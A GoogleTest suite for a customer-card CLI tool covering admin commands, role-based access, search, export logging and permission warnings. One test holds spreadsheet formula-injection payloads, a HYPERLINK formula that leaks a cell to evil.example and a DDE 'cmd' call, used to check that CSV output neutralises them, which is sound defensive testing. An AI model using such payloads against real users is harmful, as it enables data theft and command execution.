#include "CliTestSupport.h"

#include "storage/repositories/CustomerRepository.h"

#include <QFileInfo>
#include <QJsonArray>

namespace carddesk::cli::test {
namespace {

using storage::CustomerRepository;

class FoundationCommandsTest : public CliFixture
{
protected:
    // Creates a card through the storage layer as `user` (a rep owns what they create).
    core::Customer createCustomer(const QString& user, const QString& name)
    {
        storage::Session s = session(user);
        CustomerRepository repo(s);
        core::Customer customer;
        customer.name = name;
        auto created = repo.create(customer);
        if (!created)
            throw std::runtime_error(created.error().toString().toStdString());
        return *created;
    }

    // One area with a manager and two reps, all made through the CLI.
    void makeEastOffice()
    {
        ASSERT_EQ(
            runAs(QStringLiteral("admin"), {QStringLiteral("areas"), QStringLiteral("add"), QStringLiteral("East")})
                .code,
            0);
        addUser(QStringLiteral("mgr"), QStringLiteral("manager"), QStringLiteral("East"));
        addUser(QStringLiteral("rep1"), QStringLiteral("rep"), QStringLiteral("East"));
        addUser(QStringLiteral("rep2"), QStringLiteral("rep"), QStringLiteral("East"));
    }

    static QJsonArray parseArray(const QString& text)
    {
        QJsonParseError error;
        const QJsonDocument doc = QJsonDocument::fromJson(text.toUtf8(), &error);
        EXPECT_EQ(error.error, QJsonParseError::NoError) << error.errorString().toStdString();
        EXPECT_TRUE(doc.isArray());
        return doc.array();
    }

    static QStringList jsonColumn(const QJsonArray& rows, const QString& key)
    {
        QStringList values;
        for (const QJsonValue& row : rows)
            values << row.toObject().value(key).toString();
        return values;
    }

    qint64 exportRows() { return scalar("SELECT count(*) FROM access_log WHERE action = 'export'"); }
};

TEST_F(FoundationCommandsTest, ProgramHelpIsTheHelpText)
{
    for (const QString& flag : {QStringLiteral("--help"), QStringLiteral("-h")}) {
        const CliRun run = runCli({flag});
        EXPECT_EQ(run.code, 0);
        EXPECT_EQ(run.out, CliApplication::helpText());
        EXPECT_TRUE(run.err.isEmpty());
    }
    EXPECT_TRUE(CliApplication::helpText().contains(QLatin1String("import-orders FILE.csv [--create-customers]")));
}

TEST_F(FoundationCommandsTest, CommandHelpShowsItsSynopsisAndOptionsWithoutOpeningTheDatabase)
{
    const QString missing = m_dir.filePath(QStringLiteral("never.carddesk"));
    const CliRun run =
        runCli({QStringLiteral("--db"), missing, QStringLiteral("import-orders"), QStringLiteral("--help")});
    EXPECT_EQ(run.code, 0) << run.err.toStdString();
    EXPECT_TRUE(run.out.startsWith(QLatin1String("Usage: carddesk-cli --db FILE [--user NAME --password-file FILE] "
                                                 "import-orders FILE.csv [--create-customers] [--again]\n")))
        << run.out.toStdString();
    EXPECT_TRUE(run.out.contains(QLatin1String("--create-customers")));
    EXPECT_TRUE(run.err.isEmpty());
    EXPECT_FALSE(QFileInfo::exists(missing));

    const CliRun list = runCli({QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--help")});
    EXPECT_EQ(list.code, 0);
    EXPECT_TRUE(list.out.contains(QLatin1String("--search <TEXT>")));
    EXPECT_TRUE(list.out.contains(QLatin1String("--format <FORMAT>")));
}

TEST_F(FoundationCommandsTest, InitCreatesADatabaseWithItsAdmin)
{
    const QString path = m_dir.filePath(QStringLiteral("new.carddesk"));
    const CliRun run = runCli({QStringLiteral("--db"), path, QStringLiteral("init"), QStringLiteral("--admin"),
                               QStringLiteral("boss"), QStringLiteral("--password-file"), m_passwordFile});
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, QStringLiteral("created %1 with admin boss\n").arg(path));
    EXPECT_TRUE(QFileInfo(path).size() > 0);

    const CliRun users = runCli({QStringLiteral("--db"), path, QStringLiteral("--user"), QStringLiteral("boss"),
                                 QStringLiteral("--password-file"), m_passwordFile, QStringLiteral("users"),
                                 QStringLiteral("list"), QStringLiteral("--format"), QStringLiteral("csv")});
    ASSERT_EQ(users.code, 0) << users.err.toStdString();
    const QList<QStringList> rows = parseCsv(users.out);
    ASSERT_EQ(rows.size(), 2);
    EXPECT_EQ(rows[0], (QStringList{QStringLiteral("id"), QStringLiteral("username"), QStringLiteral("display_name"),
                                    QStringLiteral("role"), QStringLiteral("area"), QStringLiteral("active")}));
    EXPECT_EQ(rows[1][1], QStringLiteral("boss"));
    EXPECT_EQ(rows[1][3], QStringLiteral("admin"));
}

TEST_F(FoundationCommandsTest, InitRefusesAnExistingFile)
{
    const QByteArray before = [&] {
        QFile file(m_dbPath);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }();
    const CliRun run = runCli({QStringLiteral("--db"), m_dbPath, QStringLiteral("init"), QStringLiteral("--admin"),
                               QStringLiteral("other"), QStringLiteral("--password-file"), m_passwordFile});
    EXPECT_EQ(run.code, 1);
    EXPECT_TRUE(run.out.isEmpty());
    EXPECT_TRUE(run.err.contains(QLatin1String("already exists"))) << run.err.toStdString();
    // The old admin still logs in; no second admin appeared.
    const CliRun users = runAs(QStringLiteral("admin"), {QStringLiteral("users"), QStringLiteral("list"),
                                                         QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(users.code, 0) << users.err.toStdString();
    EXPECT_EQ(jsonColumn(parseArray(users.out), QStringLiteral("username")), QStringList{QStringLiteral("admin")});
}

TEST_F(FoundationCommandsTest, InitRefusesAShortMissingOrEmptyPassword)
{
    const QString path = m_dir.filePath(QStringLiteral("new.carddesk"));
    const QString shortFile = m_dir.filePath(QStringLiteral("short.txt"));
    const QString emptyFile = m_dir.filePath(QStringLiteral("empty.txt"));
    writeFile(shortFile, "short\n");
    writeFile(emptyFile, "\n");
    struct Case
    {
        QString file;
        const char* message;
    };
    const Case cases[] = {{shortFile, "at least 8 characters"},
                          {emptyFile, "is empty"},
                          {m_dir.filePath(QStringLiteral("nowhere.txt")), "cannot read password file"}};
    for (const Case& c : cases) {
        const CliRun run = runCli({QStringLiteral("--db"), path, QStringLiteral("init"), QStringLiteral("--admin"),
                                   QStringLiteral("boss"), QStringLiteral("--password-file"), c.file});
        EXPECT_NE(run.code, 0) << c.message;
        EXPECT_TRUE(run.out.isEmpty());
        EXPECT_TRUE(run.err.contains(QLatin1String(c.message))) << run.err.toStdString();
        EXPECT_FALSE(QFileInfo::exists(path)) << c.message;
    }
    const CliRun noPassword = runCli(
        {QStringLiteral("--db"), path, QStringLiteral("init"), QStringLiteral("--admin"), QStringLiteral("boss")});
    EXPECT_EQ(noPassword.code, 2);
    EXPECT_TRUE(noPassword.err.contains(QLatin1String("--password-file")));
}

TEST_F(FoundationCommandsTest, AdminAddsAndListsUsersAndAreas)
{
    const CliRun area =
        runAs(QStringLiteral("admin"), {QStringLiteral("areas"), QStringLiteral("add"), QStringLiteral("华东区"),
                                        QStringLiteral("--region"), QStringLiteral("East China")});
    ASSERT_EQ(area.code, 0) << area.err.toStdString();
    EXPECT_EQ(area.out, QStringLiteral("added area 华东区 (id 1)\n"));

    const CliRun added =
        runAs(QStringLiteral("admin"), {QStringLiteral("users"), QStringLiteral("add"), QStringLiteral("zhang"),
                                        QStringLiteral("--role"), QStringLiteral("rep"), QStringLiteral("--area"),
                                        QStringLiteral("华东区"), QStringLiteral("--display-name"),
                                        QStringLiteral("张伟"), QStringLiteral("--new-password-file"), m_passwordFile});
    ASSERT_EQ(added.code, 0) << added.err.toStdString();
    EXPECT_EQ(added.out, QStringLiteral("added user zhang (rep, id 2)\n"));

    const CliRun areas = runAs(QStringLiteral("admin"), {QStringLiteral("areas"), QStringLiteral("list"),
                                                         QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(areas.code, 0) << areas.err.toStdString();
    const QJsonArray areaRows = parseArray(areas.out);
    ASSERT_EQ(areaRows.size(), 1);
    EXPECT_EQ(areaRows[0].toObject().value(QStringLiteral("id")).toInteger(), 1);
    EXPECT_EQ(areaRows[0].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("华东区"));
    EXPECT_EQ(areaRows[0].toObject().value(QStringLiteral("region")).toString(), QStringLiteral("East China"));

    const CliRun users = runAs(QStringLiteral("admin"), {QStringLiteral("users"), QStringLiteral("list"),
                                                         QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(users.code, 0) << users.err.toStdString();
    const QJsonArray userRows = parseArray(users.out);
    ASSERT_EQ(userRows.size(), 2);
    const QJsonObject zhang = userRows[1].toObject();
    EXPECT_EQ(zhang.value(QStringLiteral("username")).toString(), QStringLiteral("zhang"));
    EXPECT_EQ(zhang.value(QStringLiteral("display_name")).toString(), QStringLiteral("张伟"));
    EXPECT_EQ(zhang.value(QStringLiteral("role")).toString(), QStringLiteral("rep"));
    EXPECT_EQ(zhang.value(QStringLiteral("area")).toString(), QStringLiteral("华东区"));
    EXPECT_TRUE(zhang.value(QStringLiteral("active")).toBool());

    // The new rep logs in with the password from --new-password-file.
    const CliRun check = runAs(QStringLiteral("zhang"), {QStringLiteral("check")});
    EXPECT_EQ(check.code, 0) << check.err.toStdString();
}

TEST_F(FoundationCommandsTest, ARepCannotAddUsersOrAreas)
{
    makeEastOffice();
    const CliRun user =
        runAs(QStringLiteral("rep1"),
              {QStringLiteral("users"), QStringLiteral("add"), QStringLiteral("sneaky"), QStringLiteral("--role"),
               QStringLiteral("admin"), QStringLiteral("--new-password-file"), m_passwordFile});
    EXPECT_EQ(user.code, 3);
    EXPECT_TRUE(user.out.isEmpty());
    EXPECT_TRUE(user.err.contains(QLatin1String("adding a user needs the admin role"))) << user.err.toStdString();
    EXPECT_EQ(scalar("SELECT count(*) FROM users WHERE username = 'sneaky'"), 0);

    const CliRun area =
        runAs(QStringLiteral("rep1"), {QStringLiteral("areas"), QStringLiteral("add"), QStringLiteral("West")});
    EXPECT_EQ(area.code, 3) << area.err.toStdString();
    EXPECT_TRUE(area.out.isEmpty());
    EXPECT_FALSE(area.err.isEmpty());
    EXPECT_EQ(scalar("SELECT count(*) FROM areas WHERE name = 'West'"), 0);
}

TEST_F(FoundationCommandsTest, SearchByPinyinInitialsFindsTheChineseName)
{
    const core::Customer hualian = createCustomer(QStringLiteral("admin"), QStringLiteral("上海华联商贸有限公司"));
    createCustomer(QStringLiteral("admin"), QStringLiteral("北京燕莎商城"));
    createCustomer(QStringLiteral("admin"), QStringLiteral("广州宏达物流"));
    const CliRun run =
        runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--search"),
                                        QStringLiteral("shhl"), QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    const QJsonArray rows = parseArray(run.out);
    ASSERT_EQ(rows.size(), 1) << run.out.toStdString();
    EXPECT_EQ(rows[0].toObject().value(QStringLiteral("name")).toString(), QStringLiteral("上海华联商贸有限公司"));
    EXPECT_EQ(rows[0].toObject().value(QStringLiteral("id")).toInteger(), hualian.id);
    EXPECT_EQ(rows[0].toObject().value(QStringLiteral("code")).toString(), hualian.code);

    const CliRun none =
        runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--search"),
                                        QStringLiteral("xyzq"), QStringLiteral("--format"), QStringLiteral("csv")});
    ASSERT_EQ(none.code, 0) << none.err.toStdString();
    EXPECT_EQ(parseCsv(none.out).size(), 1); // the header only
}

TEST_F(FoundationCommandsTest, CsvAndJsonListingsParseBackAndAreLoggedAsExports)
{
    // A line break in a name is refused since the input limits (#17), but a name stored before them (or by other
    // tools) may hold one: the listings must still quote it.
    const QString awkward = QStringLiteral("Acme, \"Best\" Trading\nLtd");
    const core::Customer a = createCustomer(QStringLiteral("admin"), QStringLiteral("Acme"));
    {
        SQLite::Statement rename(db().sql(), "UPDATE customers SET name = ? WHERE id = ?");
        rename.bind(1, awkward.toStdString());
        rename.bind(2, static_cast<int64_t>(a.id));
        ASSERT_EQ(rename.exec(), 1);
    }
    const core::Customer b = createCustomer(QStringLiteral("admin"), QStringLiteral("上海华联商贸有限公司"));
    const qint64 before = exportRows();

    const CliRun table = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list")});
    ASSERT_EQ(table.code, 0) << table.err.toStdString();
    EXPECT_EQ(exportRows(), before) << "a table on the terminal is not an export";

    const CliRun csv = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                       QStringLiteral("--format"), QStringLiteral("csv")});
    ASSERT_EQ(csv.code, 0) << csv.err.toStdString();
    const QList<QStringList> rows = parseCsv(csv.out);
    ASSERT_EQ(rows.size(), 3) << csv.out.toStdString();
    EXPECT_EQ(rows[0], (QStringList{QStringLiteral("id"), QStringLiteral("code"), QStringLiteral("name"),
                                    QStringLiteral("kind"), QStringLiteral("region"), QStringLiteral("owner"),
                                    QStringLiteral("status"), QStringLiteral("key")}));
    QStringList names{rows[1][2], rows[2][2]};
    names.sort();
    QStringList expected{awkward, b.name};
    expected.sort();
    EXPECT_EQ(names, expected);
    for (int i = 1; i < 3; ++i)
        EXPECT_EQ(rows[i].size(), 8);
    EXPECT_EQ(exportRows(), before + 2);
    EXPECT_EQ(scalar("SELECT count(*) FROM access_log WHERE action = 'export' AND customer_id = " +
                     std::to_string(a.id) + " AND detail = 'customers list --format csv'"),
              1);

    const CliRun json = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                        QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(json.code, 0) << json.err.toStdString();
    const QJsonArray objects = parseArray(json.out);
    ASSERT_EQ(objects.size(), 2);
    QStringList jsonNames = jsonColumn(objects, QStringLiteral("name"));
    jsonNames.sort();
    EXPECT_EQ(jsonNames, expected);
    EXPECT_EQ(objects[0].toObject().value(QStringLiteral("key")).type(), QJsonValue::Bool);
    EXPECT_EQ(exportRows(), before + 4);
    EXPECT_EQ(scalar("SELECT count(*) FROM access_log WHERE action = 'export' AND customer_id = " +
                     std::to_string(b.id) + " AND detail = 'customers list --format json'"),
              1);
}

TEST_F(FoundationCommandsTest, CsvListingsNeutraliseFormulas)
{
    // Finding 4 of issue #17: texts a spreadsheet would run as a formula came out as they were stored.
    const QStringList formulas{QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
                               QStringLiteral("+cmd|' /C calc'!A0"), QStringLiteral("-2+3"),
                               QStringLiteral("@SUM(A1)")}; // a leading tab or CR: CsvFieldTest (names are trimmed)
    for (const QString& name : formulas)
        createCustomer(QStringLiteral("admin"), name);
    createCustomer(QStringLiteral("admin"), QStringLiteral("-12.5")); // a plain number stays as it is

    const CliRun csv = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                       QStringLiteral("--format"), QStringLiteral("csv")});
    ASSERT_EQ(csv.code, 0) << csv.err.toStdString();
    const QList<QStringList> rows = parseCsv(csv.out);
    ASSERT_EQ(rows.size(), formulas.size() + 2) << csv.out.toStdString();
    QStringList names;
    for (qsizetype i = 1; i < rows.size(); ++i)
        names << rows[i][2];
    for (const QString& formula : formulas)
        EXPECT_TRUE(names.contains(QLatin1Char('\'') + formula))
            << formula.toStdString() << " in " << csv.out.toStdString();
    EXPECT_TRUE(names.contains(QStringLiteral("-12.5")));
    for (const QString& name : names)
        EXPECT_FALSE(QStringLiteral("=+-@\t\r").contains(name.front()) && name != QStringLiteral("-12.5"))
            << name.toStdString();
    // The JSON and the table keep the stored text: only spreadsheets run formulas.
    const CliRun json = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                        QStringLiteral("--format"), QStringLiteral("json")});
    EXPECT_TRUE(jsonColumn(parseArray(json.out), QStringLiteral("name")).contains(formulas[3]));
}

TEST_F(FoundationCommandsTest, CustomerShowPrintsTheCardAsJson)
{
    const core::Customer card = createCustomer(QStringLiteral("admin"), QStringLiteral("上海华联商贸有限公司"));
    for (const QString& key : {QString::number(card.id), card.code}) {
        const CliRun run = runAs(QStringLiteral("admin"), {QStringLiteral("customer"), QStringLiteral("show"), key,
                                                           QStringLiteral("--format"), QStringLiteral("json")});
        ASSERT_EQ(run.code, 0) << run.err.toStdString();
        const QJsonObject json = parseObject(run.out);
        EXPECT_EQ(json.value(QStringLiteral("id")).toInteger(), card.id);
        EXPECT_EQ(json.value(QStringLiteral("code")).toString(), card.code);
        EXPECT_EQ(json.value(QStringLiteral("name")).toString(), QStringLiteral("上海华联商贸有限公司"));
        EXPECT_EQ(json.value(QStringLiteral("status")).toString(), card.status);
    }
    const CliRun missing =
        runAs(QStringLiteral("admin"), {QStringLiteral("customer"), QStringLiteral("show"), QStringLiteral("999999")});
    EXPECT_NE(missing.code, 0);
    EXPECT_TRUE(missing.out.isEmpty());
    EXPECT_FALSE(missing.err.isEmpty());
}

TEST_F(FoundationCommandsTest, ARepSeesOnlyTheirOwnCustomers)
{
    makeEastOffice();
    const core::Customer mine1 = createCustomer(QStringLiteral("rep1"), QStringLiteral("上海华联商贸有限公司"));
    const core::Customer mine2 = createCustomer(QStringLiteral("rep1"), QStringLiteral("杭州西湖茶业"));
    const core::Customer theirs = createCustomer(QStringLiteral("rep2"), QStringLiteral("南京金陵饭店"));
    createCustomer(QStringLiteral("admin"), QStringLiteral("总部直营客户"));

    const CliRun run = runAs(QStringLiteral("rep1"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                      QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    QStringList codes = jsonColumn(parseArray(run.out), QStringLiteral("code"));
    codes.sort();
    QStringList expected{mine1.code, mine2.code};
    expected.sort();
    EXPECT_EQ(codes, expected);

    // Another rep's card is not there for rep1, neither by id nor by search.
    const CliRun show =
        runAs(QStringLiteral("rep1"), {QStringLiteral("customer"), QStringLiteral("show"), QString::number(theirs.id)});
    EXPECT_NE(show.code, 0);
    EXPECT_TRUE(show.out.isEmpty());
    const CliRun search =
        runAs(QStringLiteral("rep1"), {QStringLiteral("customers"), QStringLiteral("list"), QStringLiteral("--search"),
                                       QStringLiteral("金陵"), QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(search.code, 0) << search.err.toStdString();
    EXPECT_TRUE(parseArray(search.out).isEmpty());

    const CliRun admin = runAs(QStringLiteral("admin"), {QStringLiteral("customers"), QStringLiteral("list"),
                                                         QStringLiteral("--format"), QStringLiteral("json")});
    ASSERT_EQ(admin.code, 0);
    EXPECT_EQ(parseArray(admin.out).size(), 4);
}

TEST_F(FoundationCommandsTest, HandoverMovesCustomersAndPrintsTheCount)
{
    makeEastOffice();
    createCustomer(QStringLiteral("rep1"), QStringLiteral("上海华联商贸有限公司"));
    createCustomer(QStringLiteral("rep1"), QStringLiteral("杭州西湖茶业"));
    createCustomer(QStringLiteral("rep1"), QStringLiteral("苏州园林设计"));
    createCustomer(QStringLiteral("rep2"), QStringLiteral("南京金陵饭店"));

    const QStringList handover{QStringLiteral("handover"), QStringLiteral("--from"), QStringLiteral("rep1"),
                               QStringLiteral("--to"), QStringLiteral("rep2")};
    const CliRun denied = runAs(QStringLiteral("rep1"), handover);
    EXPECT_EQ(denied.code, 3);
    EXPECT_TRUE(denied.out.isEmpty());
    EXPECT_TRUE(denied.err.contains(QLatin1String("needs the manager role"))) << denied.err.toStdString();

    const CliRun run = runAs(QStringLiteral("mgr"), handover);
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    EXPECT_EQ(run.out, QStringLiteral("handed over 3 customers from rep1 to rep2\n"));

    const auto listOf = [&](const QString& user) {
        const CliRun list = runAs(user, {QStringLiteral("customers"), QStringLiteral("list"),
                                         QStringLiteral("--format"), QStringLiteral("json")});
        EXPECT_EQ(list.code, 0) << list.err.toStdString();
        return parseArray(list.out).size();
    };
    EXPECT_EQ(listOf(QStringLiteral("rep1")), 0);
    EXPECT_EQ(listOf(QStringLiteral("rep2")), 4);

    const CliRun again = runAs(QStringLiteral("mgr"), handover);
    ASSERT_EQ(again.code, 0) << again.err.toStdString();
    EXPECT_EQ(again.out, QStringLiteral("handed over 0 customers from rep1 to rep2\n"));
}

TEST_F(FoundationCommandsTest, CheckPrintsOk)
{
    const CliRun run = runAs(QStringLiteral("admin"), {QStringLiteral("check")});
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    EXPECT_TRUE(run.out.startsWith(
        QStringLiteral("ok: integrity, foreign keys and schema version %1\nfile: ").arg(db().schemaVersion())))
        << run.out.toStdString();
    // A new office has next to no free pages: no advice to optimize.
    EXPECT_FALSE(run.out.contains(QStringLiteral("optimize"))) << run.out.toStdString();
    EXPECT_TRUE(run.err.isEmpty());
}

TEST_F(FoundationCommandsTest, ANewOfficeIsTheOwnersOnlyAndCheckWarnsWhenItIsNot)
{
    // Issue #17, finding 1: init made the office 0644 (with the usual umask), readable by every account.
    const QFileDevice::Permissions others =
        QFileDevice::ReadGroup | QFileDevice::WriteGroup | QFileDevice::ReadOther | QFileDevice::WriteOther;
    EXPECT_EQ(QFile::permissions(m_dbPath) & others, QFileDevice::Permissions()) << "made by init in SetUp";
    CliRun run = runAs(QStringLiteral("admin"), {QStringLiteral("check")});
    ASSERT_EQ(run.code, 0) << run.err.toStdString();
    EXPECT_TRUE(run.err.isEmpty()) << run.err.toStdString();

    ASSERT_TRUE(QFile::setPermissions(m_dbPath,
                                      QFile::permissions(m_dbPath) | QFileDevice::ReadGroup | QFileDevice::ReadOther));
    run = runAs(QStringLiteral("admin"), {QStringLiteral("check")});
    EXPECT_EQ(run.code, 0) << "not damage: the check itself passes";
    EXPECT_TRUE(run.out.startsWith(QLatin1String("ok:"))) << run.out.toStdString();
    EXPECT_TRUE(run.err.contains(QLatin1String("warning: "))) << run.err.toStdString();
    EXPECT_TRUE(run.err.contains(QLatin1String("other accounts"))) << run.err.toStdString();
    EXPECT_TRUE(run.err.contains(QLatin1String("chmod 600"))) << run.err.toStdString();
}

TEST_F(FoundationCommandsTest, UsageAndLoginErrorsHaveTheirExitCodesAndGoToStderr)
{
    const CliRun unknown = runAs(QStringLiteral("admin"), {QStringLiteral("frobnicate")});
    EXPECT_EQ(unknown.code, 2);
    EXPECT_TRUE(unknown.out.isEmpty());
    EXPECT_TRUE(unknown.err.contains(QLatin1String("unknown command 'frobnicate'"))) << unknown.err.toStdString();

    const CliRun noDb = runCli({QStringLiteral("--user"), QStringLiteral("admin"), QStringLiteral("--password-file"),
                                m_passwordFile, QStringLiteral("check")});
    EXPECT_EQ(noDb.code, 2);
    EXPECT_TRUE(noDb.out.isEmpty());
    EXPECT_TRUE(noDb.err.contains(QLatin1String("--db PATH is required"))) << noDb.err.toStdString();

    const QString wrongFile = m_dir.filePath(QStringLiteral("wrong.txt"));
    writeFile(wrongFile, "not-the-password\n");
    const CliRun wrong =
        runCli({QStringLiteral("--db"), m_dbPath, QStringLiteral("--user"), QStringLiteral("admin"),
                QStringLiteral("--password-file"), wrongFile, QStringLiteral("customers"), QStringLiteral("list")});
    EXPECT_EQ(wrong.code, 3);
    EXPECT_TRUE(wrong.out.isEmpty());
    EXPECT_TRUE(wrong.err.contains(QLatin1String("wrong user name or password"))) << wrong.err.toStdString();
    EXPECT_EQ(scalar("SELECT count(*) FROM access_log WHERE action = 'login_failed'"), 1);
    // `check` refuses the same way but writes nothing: it opens the file read-only (#17, finding 7).
    const CliRun wrongCheck =
        runCli({QStringLiteral("--db"), m_dbPath, QStringLiteral("--user"), QStringLiteral("admin"),
                QStringLiteral("--password-file"), wrongFile, QStringLiteral("check")});
    EXPECT_EQ(wrongCheck.code, 3);
    EXPECT_TRUE(wrongCheck.err.contains(QLatin1String("wrong user name or password"))) << wrongCheck.err.toStdString();
    EXPECT_EQ(scalar("SELECT count(*) FROM access_log WHERE action = 'login_failed'"), 1);

    const CliRun noUser = runCli({QStringLiteral("--db"), m_dbPath, QStringLiteral("check")});
    EXPECT_EQ(noUser.code, 2);
    EXPECT_TRUE(noUser.err.contains(QLatin1String("--user NAME")));

    const CliRun nothing = runCli({});
    EXPECT_EQ(nothing.code, 2);
    EXPECT_TRUE(nothing.out.isEmpty());
    EXPECT_TRUE(nothing.err.contains(QLatin1String("no command given")));

    const CliRun badOption = runAs(QStringLiteral("admin"), {QStringLiteral("check"), QStringLiteral("--bogus")});
    EXPECT_EQ(badOption.code, 2);
    EXPECT_TRUE(badOption.err.contains(QLatin1String("bogus"))) << badOption.err.toStdString();
}

} // namespace
} // namespace carddesk::cli::test
